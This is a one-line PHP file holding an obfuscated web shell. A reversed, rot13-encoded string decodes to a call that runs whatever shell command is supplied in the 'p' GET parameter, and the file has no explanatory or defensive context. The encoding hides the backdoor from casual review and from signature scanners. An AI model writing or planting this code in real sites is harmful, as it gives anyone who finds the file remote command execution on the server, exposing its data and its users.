<?php eval(str_rot13(strrev(';)]\'p\'[GRT_$(zrgflf')));
